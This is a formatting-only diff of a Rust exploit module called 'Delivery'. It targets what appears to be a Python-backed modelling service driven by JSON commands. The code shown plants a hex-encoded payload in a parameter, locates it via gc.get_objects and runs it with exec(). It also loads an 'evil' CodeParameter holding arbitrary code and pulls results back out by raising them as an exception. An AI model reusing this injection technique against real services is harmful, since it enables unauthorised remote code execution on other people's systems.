@@ -47,7 +47,8 @@ impl Delivery {
                 let attach = json!({"command": "attach_parameters", "parameters": [parameter]});
                 session.result(attach).await;
                 let planted = "[each.get_value() for each in __import__('gc').get_objects() if \
-                               type(each).__name__ == 'StringParameter' and each.qualifier == 'planted'][0]";
+                               type(each).__name__ == 'StringParameter' and each.qualifier == \
+                               'planted'][0]";
                 let expression = format!("exec(bytes.fromhex({planted}).decode(), dict())");
                 run_constraint(session, &expression).await;
             }
@@ -71,7 +72,8 @@ impl Delivery {
 }
 
 /// Tells, as an error, what the last program left; and forgets it.
-const SAY_OUTCOME: &str = "import builtins\noutcome = vars(builtins).pop('outcome', 'nothing was executed')\nraise Exception(outcome)";
+const SAY_OUTCOME: &str = "import builtins\noutcome = vars(builtins).pop('outcome', 'nothing \
+was executed')\nraise Exception(outcome)";
 
 fn hex(text: &str) -> String {
     text.bytes().map(|byte| format!("{byte:02x}")).collect()
@@ -87,11 +89,14 @@ async fn load_bundle(session: &Session, code: &str) {
     session.result(json!({"command": "new_bundle"})).await;
     let mut parameters: Vec<Value> = serde_json::from_str(&bundle(session).await).unwrap();
     parameters.push(json!({
-        "Class": "CodeParameter", "qualifier": "custom_code", "context": "feature", "feature": "evil",
+        "Class": "CodeParameter", "qualifier": "custom_code", "context": "feature",
+        "feature": "evil",
         "kind": "Evil", "value": code, "description": "", "readonly": false,
     }));
     load(session, &serde_json::to_string(&parameters).unwrap()).await;
-    let dataset = json!({"command": "add_dataset", "kind": "lc", "compute_phases": [0.25], "dataset": "lc01"});
+    let dataset = json!({
+        "command": "add_dataset", "kind": "lc", "compute_phases": [0.25], "dataset": "lc01"
+    });
     session.result(dataset).await;
 }
 
